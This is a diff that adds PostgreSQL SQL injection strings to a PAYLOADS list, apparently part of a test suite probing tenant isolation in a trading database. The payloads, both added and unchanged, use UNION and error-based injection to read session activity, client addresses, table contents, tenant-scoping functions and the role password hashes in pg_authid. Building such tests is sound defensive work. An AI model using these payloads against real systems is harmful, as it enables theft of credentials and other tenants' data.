@@ -29,6 +29,16 @@ PAYLOADS = [
     "' UNION ALL SELECT name, setting FROM pg_settings --",
     "' UNION ALL SELECT query, usename FROM pg_stat_activity --",
     "' UNION ALL SELECT pid::text, query FROM pg_stat_get_activity(NULL) --",
+    "' UNION ALL SELECT pg_stat_get_backend_activity(s), s::text FROM pg_stat_get_backend_idset() s --",
+    "' UNION ALL SELECT pg_stat_get_backend_pid(s)::text, pg_stat_get_backend_userid(s)::text "
+    "FROM pg_stat_get_backend_idset() s --",
+    "' UNION ALL SELECT pg_stat_get_backend_client_addr(s)::text, pg_stat_get_backend_start(s)::text "
+    "FROM generate_series(1, 200) s --",
+    "' UNION ALL SELECT schemaname || relname, n_live_tup::text FROM pg_stat_all_tables --",
+    "' UNION ALL SELECT schemaname || relname, n_live_tup::text FROM pg_stat_xact_all_tables --",
+    "' UNION ALL SELECT pg_stat_get_live_tuples('{schema}.trading_order'::regclass)::text, '' --",
+    "' UNION ALL SELECT pg_relation_size('{schema}.trading_order')::text, '' --",
+    "' UNION ALL SELECT relname, pg_total_relation_size(oid)::text FROM pg_class --",
     "' UNION ALL SELECT inner_pad::text, proof_key::text FROM bulkhead.ticket_key --",
     "' UNION ALL SELECT query_to_xml('SELECT * FROM public.trading_order', true, true, '')::text, '' --",
     "' UNION ALL SELECT table_to_xml('public.trading_order', true, true, '')::text, '' --",
@@ -45,6 +55,8 @@ PAYLOADS = [
     "' AND 1 = (SELECT count(*) FROM public.trading_order WHERE 1 / (tenant_id <> '{tenant}')::int = 1) --",
     "' AND 1 = CAST((SELECT client_order_id FROM public.trading_order LIMIT 1) AS int) --",
     "' UNION ALL SELECT proven_tenant('{schema}')::text, '' --",
+    "' UNION ALL SELECT concat(public.proven_tenant('{schema}'), public.proven_user('{schema}')), "
+    "public.proven_scope('{schema}') --",
     "' UNION ALL SELECT pg_advisory_lock(1)::text, '' --",
     "' UNION ALL SELECT pg_get_functiondef('public.enter_tenant'::regproc), '' --",
     "' UNION ALL SELECT rolname, rolpassword FROM pg_authid --",
